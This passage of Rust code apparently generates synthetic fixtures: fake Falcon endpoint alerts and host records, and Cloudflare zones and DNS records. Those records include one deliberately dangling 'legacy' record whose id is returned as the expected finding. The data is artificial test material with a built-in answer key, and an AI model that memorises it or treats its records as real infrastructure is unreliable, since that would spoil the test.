                "service_provider_account_id": account.id,
                "zone_group": host.az,
                "status": "normal",
            });
            if let Some(id) = &host.instance_id {
                device["instance_id"] = json!(id);
            }
            let pattern = 10_000 + self.below(400);
            alerts.push(json!({
                "composite_id": format!("{cid}:ind:{}:{}-{pattern}-{}", host.device_id, self.between(10_000_000_000, 99_999_999_999), self.below(1_000_000)),
                "aggregate_id": format!("aggind:{}:{}", host.device_id, self.between(10_000_000_000, 99_999_999_999)),
                "agent_id": host.device_id,
                "cid": cid,
                "cmdline": cmdline,
                "confidence": 80,
                "created_timestamp": format!("{}.{:03}Z", civil(created), self.below(1000)),
                "description": format!("{name} observed on {}", host.hostname),
                "device": device,
                "display_name": name,
                "filename": filename,
                "name": name.replace(' ', ""),
                "pattern_id": pattern,
                "product": "epp",
                "scenario": "suspicious_activity",
                "severity": severity,
                "severity_name": severity_name,
                "status": if k % 3 == 0 { "in_progress" } else { "new" },
                "tactic": tactic,
                "tactic_id": tactic_id,
                "technique": technique,
                "technique_id": technique_id,
                "timestamp": z_time(created),
                "type": "ldt",
                "updated_timestamp": format!("{}.000Z", civil(created + self.between(60, 2 * HOUR))),
                "user_name": if host.windows { "Administrator" } else { "root" },
            }));
        }
        let page = json!({"meta": {"query_time": 0.041, "powered_by": "detectsapi", "trace_id": self.uuid()}, "resources": alerts, "errors": []});
        w.single(&dir, &falcon::ALERTS, None, &page)
    }

    /// Cloudflare zones and DNS records pointing at the estate: load balancers, CloudFront,
    /// bastions' public addresses, and one record left dangling on an address no instance holds.
    /// Returns the dangling record ids.
    fn write_cloudflare(
        &mut self,
        estate: &Estate,
        cloudfront: &BTreeMap<usize, Vec<String>>,
        w: &mut Writer,
    ) -> Result<Vec<String>> {
        let dir = w.root.join("cloudflare");
        let cf_account = json!({"id": self.hex(32), "name": "Acme Corp"});
        let mut zones = Vec::new();
        let mut dangling = Vec::new();
        for (apex, env, paused) in
            [("example.com", Env::Prod, false), ("example.net", Env::Staging, false), ("example.org", Env::Dev, true)]
        {
            let Some(a) = estate.accounts.iter().position(|x| x.env == env) else { continue };
            let zone_id = self.hex(32);
            let created = BASE_TIME - self.between(400 * DAY, 2000 * DAY);
            zones.push(json!({
                "account": cf_account,
                "activated_on": z_time(created + HOUR),
                "created_on": z_time(created),
                "development_mode": 0,
                "id": zone_id,
                "meta": {"cdn_only": false, "custom_certificate_quota": 0, "dns_only": false, "foundation_dns": false,
                         "page_rule_quota": 20, "phishing_detected": false, "step": 2},
                "modified_on": z_time(BASE_TIME - self.between(DAY, 100 * DAY)),
                "name": apex,
                "name_servers": ["ada.ns.cloudflare.com", "bob.ns.cloudflare.com"],
                "original_dnshost": null,
                "original_name_servers": ["ns-0.awsdns-00.com", "ns-512.awsdns-00.net"],
                "original_registrar": null,
                "owner": {"id": null, "type": "organization", "email": null},
                "paused": paused,
                "permissions": ["#dns_records:edit", "#dns_records:read", "#zone:read"],
                "plan": {"id": self.hex(32), "name": "Business Website", "price": 200, "currency": "USD", "frequency": "monthly",
                         "is_subscribed": true, "can_subscribe": false, "legacy_id": "business", "legacy_discount": false, "externally_managed": false},
                "status": "active",
                "type": "full",
            }));
            let mut records: Vec<(String, &str, String, bool, i64)> = Vec::new();
            let web: Vec<&LoadBalancer> = estate
                .balancers
                .iter()
                .filter(|lb| lb.internet_facing && estate.sites.get(lb.site).is_some_and(|s| s.account == a))
                .collect();
            let front = cloudfront.get(&a).and_then(|d| d.first()).cloned();
            if let Some(domain) = &front {
                records.push((apex.to_owned(), "CNAME", domain.clone(), true, 1));
                records.push((format!("www.{apex}"), "CNAME", domain.clone(), true, 1));
            } else if let Some(lb) = web.first() {
                records.push((format!("www.{apex}"), "CNAME", lb.dns_name.clone(), true, 1));
            }
            for lb in &web {
                let region = estate.sites.get(lb.site).map_or(String::new(), |s| short_region(&s.region));
                records.push((format!("app-{region}{}.{apex}", lb.label), "CNAME", lb.dns_name.clone(), true, 1));
            }
            for instance in estate
                .instances
                .iter()
                .filter(|i| i.role == Role::Bastion && estate.sites.get(i.site).is_some_and(|s| s.account == a))
            {
                if let (Some(ip), Some(site)) = (instance.public_ip, estate.sites.get(instance.site)) {
                    records.push((format!("ssh-{}.{apex}", short_region(&site.region)), "A", dotted(ip), false, 300));
                }
            }
            if let Some(ip) = estate
                .instances
                .iter()
                .find(|i| {
                    i.role == Role::Web
                        && i.public_ip.is_some()
                        && estate.sites.get(i.site).is_some_and(|s| s.account == a)
                })
                .and_then(|i| i.public_ip)
            {
                records.push((format!("status.{apex}"), "A", dotted(ip), false, 300));
            }
            // An address handed out after every instance's: nothing in the estate holds it.
            let old = self.public_ip()?;
            let dangling_index = records.len();
            records.push((format!("legacy.{apex}"), "A", dotted(old), false, 300));
            records.push((apex.to_owned(), "MX", format!("mx1.mail.{apex}"), false, 3600));
            records.push((apex.to_owned(), "TXT", "v=spf1 include:_spf.example.net ~all".into(), false, 3600));
            let mut result = Vec::new();
            for (k, (name, kind, content, proxied, ttl)) in records.into_iter().enumerate() {
                let id = self.hex(32);
                if k == dangling_index {
                    dangling.push(id.clone());
                }
                let changed = BASE_TIME - self.between(DAY, 700 * DAY);
                let mut record = json!({
                    "comment": null,
                    "content": content,
                    "created_on": format!("{}.{:06}Z", civil(changed), self.below(1_000_000)),
                    "id": id,
                    "meta": {"auto_added": false, "managed_by_apps": false, "managed_by_argo_tunnel": false},
                    "modified_on": format!("{}.{:06}Z", civil(changed), self.below(1_000_000)),
                    "name": name,
                    "proxiable": matches!(kind, "A" | "CNAME"),
                    "proxied": proxied,
                    "settings": {},
                    "tags": [],
                    "ttl": ttl,
                    "type": kind,
                    "zone_id": zone_id,
                    "zone_name": apex,
                });
                if kind == "MX" {
                    record["priority"] = json!(10);
                }
                result.push(record);
            }
            let count = result.len();
            let page = json!({"errors": [], "messages": [], "result": result, "result_info": {"count": count, "page": 1, "per_page": 100,
                              "total_count": count, "total_pages": 1}, "success": true});
            w.single(&dir, &cloudflare::DNS_RECORDS, Some(&zone_id), &page)?;
        }
        let count = zones.len();
        let page = json!({"errors": [], "messages": [], "result": zones, "result_info": {"count": count, "page": 1, "per_page": 50,
                          "total_count": count, "total_pages": 1}, "success": true});
        w.single(&dir, &cloudflare::ZONES, None, &page)?;
        Ok(dangling)
    }
}

/// One Falcon host record as `/devices/entities/devices/v2` returns it.
fn host_json(estate: &Estate, host: &Host, cid: &str, policies: &BTreeMap<&str, String>) -> Result<Value> {
    let account = at(&estate.accounts, host.account, "account")?;
    let (os_version, kernel, platform) = os_of(host.role, host.windows);
    let build = host.agent_version.split('.').nth(2).unwrap_or_default();
    let env = account.env.name();
    let tags = vec![format!("SensorGroupingTags/{env}"), format!("FalconGroupingTags/{}", host.role.tag())];
    let policy = json!({"applied": true, "policy_id": policies.get(env).cloned().unwrap_or_default(), "policy_type": "prevention"});
    let serial = format!("ec2{}-{}-{}", &host.device_id[..5], &host.device_id[5..9], &host.device_id[9..13]);
    let mut record = json!({
        "agent_load_flags": "0",
        "agent_local_time": z_time(host.last_seen),
        "agent_version": host.agent_version,
        "bios_manufacturer": "Amazon EC2",
        "bios_version": "1.0",
        "chassis_type": "1",
        "chassis_type_desc": "Other",
        "cid": cid,
        "config_id_base": "65994763",
        "config_id_build": build,
        "config_id_platform": if host.windows { "3" } else { "8" },
        "connection_ip": dotted(host.ip),
        "cpu_signature": "430164",
        "default_gateway_ip": dotted((host.ip & 0xFFFF_FF00) | 1),
        "device_id": host.device_id,
        "device_policies": {"prevention": policy},
        "first_seen": z_time(host.first_seen),
        "groups": [],
        "hostname": host.hostname,
        "kernel_version": kernel,
        "last_seen": z_time(host.last_seen),
        "local_ip": dotted(host.ip),
        "mac_address": mac_text(&host.mac, "-"),
        "machine_domain": "",
        "major_version": if host.windows { "10" } else { "6" },
        "minor_version": if host.windows { "0" } else { "1" },
        "modified_timestamp": z_time(host.last_seen),
        "os_version": os_version,
        "platform_id": if host.windows { "0" } else { "3" },
        "platform_name": platform,
        "product_type_desc": "Server",
        "provision_status": "Provisioned",
        "reduced_functionality_mode": "no",
        "serial_number": serial,
        "service_provider": "AWS_EC2_V2",
        "service_provider_account_id": account.id,
        "status": "normal",
        "system_manufacturer": "Amazon EC2",
        "system_product_name": host.instance_type,
        "tags": tags,
        "zone_group": host.az,
    });
    if let Some(ip) = host.external_ip {
        record["external_ip"] = json!(dotted(ip));
    }
    if let Some(id) = &host.instance_id {
        record["instance_id"] = json!(id);
    }
    Ok(record)
}
